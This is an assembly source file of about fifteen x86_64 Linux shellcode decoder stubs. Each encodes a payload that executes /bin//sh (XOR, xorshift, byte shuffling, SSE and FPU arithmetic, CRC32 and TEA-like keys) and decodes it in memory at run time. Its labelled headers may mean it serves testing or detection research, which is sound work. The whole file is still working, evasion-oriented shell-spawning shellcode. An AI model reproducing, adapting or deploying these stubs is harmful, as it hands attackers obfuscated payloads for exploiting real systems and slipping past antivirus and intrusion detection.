; Decoders for 64 bit. One kind, as in decoders_keys.asm.

;= wide_after_a_call 64 | linux x86_64 | execute /bin//sh
	push byte 39
	pop rax
	syscall
here:	lea rsi, [rcx + payload - here]
	push byte LENGTH64
	pop rcx
next:	xor byte [rsi + rcx - 1], 0x2f
	loop next
	jmp rsi
payload: ENCODE64 c ^ 0x2f

;= wide_xorshift 64 | linux x86_64 | execute /bin//sh
	lea rdi, [rel payload]
	push byte 0x29
	pop rax
	push byte LENGTH64
	pop rcx
next:	mov edx, eax
	shl edx, 13
	xor eax, edx
	mov edx, eax
	shr edx, 17
	xor eax, edx
	mov edx, eax
	shl edx, 5
	xor eax, edx
	xor [rdi], al
	inc rdi
	loop next
payload:
%assign key 0x29
%assign j 0
%rep LENGTH64
%assign key (key ^ (key << 13)) & 0xffffffff
%assign key key ^ (key >> 17)
%assign key (key ^ (key << 5)) & 0xffffffff
%substr letter PAYLOAD64 j + 1
	db (letter ^ key) & 0xff
%assign j j + 1
%endrep

;= wide_shuffled 64 | linux x86_64 | execute /bin//sh
	jmp down
up:	pop rax
	movdqu xmm1, [rel order]
	movdqu xmm0, [rax]
	pshufb xmm0, xmm1
	movdqu [rax], xmm0
	movups xmm2, [rax + 16]
	pshufb xmm2, xmm1
	movups [rax + 16], xmm2
	jmp rax
order:	db 7, 6, 5, 4, 3, 2, 1, 0, 15, 14, 13, 12, 11, 10, 9, 8
down:	call up
	EACH PAYLOAD64, LENGTH64, 8, dq, (((c >> 56) & 0xff) | ((c >> 40) & 0xff00) | ((c >> 24) & 0xff0000) | ((c >> 8) & 0xff000000) | ((c & 0xff000000) << 8) | ((c & 0xff0000) << 24) | ((c & 0xff00) << 40) | ((c & 0xff) << 56))

;= wide_vectors 64 | linux x86_64 | execute /bin//sh
	lea rbx, [rel payload]
	movdqu xmm0, [rbx]
	movdqu xmm1, [rbx + 16]
	mov eax, 0x11223344
	movd xmm2, eax
	pshufd xmm2, xmm2, 0
	pxor xmm0, xmm2
	pxor xmm1, xmm2
	movdqu [rbx], xmm0
	movdqu [rbx + 16], xmm1
	jmp rbx
payload: EACH PAYLOAD64, LENGTH64, 4, dd, c ^ 0x11223344

;= wide_sse_words 64 | linux x86_64 | execute /bin//sh
	jmp short down
up:	pop rdi
	push rdi
	movd xmm1, ecx
	pcmpeqw xmm1, xmm1
	psrlw xmm1, 15
	movdqu xmm0, [rdi]
	paddw xmm0, xmm1
	movdqu [rdi], xmm0
	movdqu xmm0, [rdi + 16]
	paddw xmm0, xmm1
	movdqu [rdi + 16], xmm0
	ret
down:	call up
	EACH PAYLOAD64, LENGTH64, 2, dw, (c - 1) & 0xffff

;= wide_fpu 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	mov edi, 0x0badcafe
	push rdi
	push byte LENGTH64 / 8
	pop rcx
next:	fild qword [rsi]
	fild dword [rsp]
	fsubp st1, st0
	fistp qword [rsi]
	add rsi, 8
	dec rcx
	jne next
payload: QUADS c + 0x0badcafe

;= wide_down_and_copied 64 | linux x86_64 | execute /bin//sh
	jmp down
up:	pop rsi
	sub rsp, 0x80
	and rsp, -16
	push rsp
	pop rdi
	push byte LENGTH64
	pop rcx
next:	lodsb
	add al, cl
	rol al, 2
	stosb
	loop next
	jmp rsp
down:	call up
	ENCODE64 (((c >> 2) | (c << 6)) & 0xff) - (LENGTH64 - i)

;= wide_mul 64 | linux x86_64 | execute /bin//sh
	call here
here:	pop rbx
	add rbx, payload - here
	xor ecx, ecx
next:	mov rax, [rbx + rcx * 8]
	bswap rax
	not rax
	mov [rbx + rcx * 8], rax
	inc ecx
	cmp ecx, LENGTH64 / 8
	jl next
payload: QUADS ~(((c >> 56) & 0xff) | ((c >> 40) & 0xff00) | ((c >> 24) & 0xff0000) | ((c >> 8) & 0xff000000) | ((c & 0xff000000) << 8) | ((c & 0xff0000) << 24) | ((c & 0xff00) << 40) | ((c & 0xff) << 56))

;= wide_letters 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	push rsi
	push rsi
	pop rdi
next:	lodsw
	sub ax, 0x6161
	js done
	shl al, 4
	or al, ah
	stosb
	jmp next
done:	ret
payload:
%assign j 0
%rep LENGTH64
%substr letter PAYLOAD64 j + 1
	db 'a' + (letter >> 4), 'a' + (letter & 15)
%assign j j + 1
%endrep
	db '__'

;= wide_pushed_and_called 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel behind]
	mov rdx, 0x5aa5c33c0ff01234
	push byte LENGTH64 / 8
	pop rcx
	std
	sub rsi, 8
next:	lodsq
	xor rax, rdx
	push rax
	loop next
	cld
	call rsp
	QUADS c ^ 0x5aa5c33c0ff01234
behind:

;= wide_crc 64 | linux x86_64 | execute /bin//sh
	lea rsi, [rel payload]
	mov eax, 0x600df00d
	xor ecx, ecx
next:	crc32 rax, rcx
	xor [rsi + rcx], al
	inc ecx
	cmp ecx, LENGTH64
	jb next
	jmp rsi
payload:
%assign key 0x600df00d
%assign j 0
%rep LENGTH64
%assign key key ^ j
%rep 64
%assign key (key >> 1) ^ ((key & 1) * 0x82f63b78)
%endrep
%substr letter PAYLOAD64 j + 1
	db letter ^ (key & 0xff)
%assign j j + 1
%endrep

;= wide_tea_like 64 | linux x86_64 | execute /bin//sh
	call here
here:	pop rsi
	add rsi, payload - here
	push byte LENGTH64 / 4
	pop rcx
	mov ebx, 0x9e3779b9
	xor edx, edx
next:	add edx, ebx
	mov eax, edx
	shl eax, 4
	add eax, 0x1234567
	xor eax, edx
	rol eax, 3
	sub [rsi], eax
	lea rsi, [rsi + 4]
	loop next
payload:
%assign sum 0
%assign j 0
%rep LENGTH64 / 4
%assign sum (sum + 0x9e3779b9) & 0xffffffff
%assign key (((sum << 4) + 0x1234567) ^ sum) & 0xffffffff
%assign key ((key << 3) | (key >> 29)) & 0xffffffff
%assign quad 0
%assign part 4
%rep 4
%substr letter PAYLOAD64 j * 4 + part
%assign quad (quad << 8) | letter
%assign part part - 1
%endrep
	dd (quad + key) & 0xffffffff
%assign j j + 1
%endrep

;= wide_rip_self 64 | linux x86_64 | execute /bin//sh
start:	lea rbx, [rel start]
	add rbx, payload - start
	mov cl, LENGTH64
next:	xor byte [rbx], 0x77
	inc rbx
	dec cl
	jnz next
payload: ENCODE64 c ^ 0x77

;= wide_pointer_in_rax 64 | linux x86_64 | execute /bin//sh
start:	push rax
	pop rbx
	add rbx, payload - start
	push LENGTH64
	pop rcx
next:	dec byte [rbx + rcx - 1]
	loop next
	jmp rbx
payload: ENCODE64 c + 1

;= wide_call_back 64 | linux x86_64 | execute /bin//sh
	jmp near down
up:	mov rsi, [rsp]
	push LENGTH64
	pop rcx
next:	xor byte [rsi + rcx - 1], 0x77
	loop next
	ret
	times 140 nop
down:	call up
	ENCODE64 c ^ 0x77

;= wide_stages 64 | linux x86_64 | execute /bin//sh
	lea rdi, [rel payload]
	push 2
	pop rbx
s:	push LENGTH64 / 8
	pop rcx
	mov rsi, rdi
n:	lodsq
	rol rax, 7
	mov rdx, 0x1020304050607080
	xor rax, rdx
	mov [rsi - 8], rax
	loop n
	dec ebx
	jnz s
	jmp rdi
payload:
%assign j 0
%rep LENGTH64 / 8
%assign q 0
%assign part 8
%rep 8
%substr letter PAYLOAD64 j * 8 + part
%assign q (q << 8) | letter
%assign part part - 1
%endrep
%rep 2
%assign q q ^ 0x1020304050607080
%assign q (q << 57) | (q >> 7)
%endrep
	dq q
%assign j j + 1
%endrep
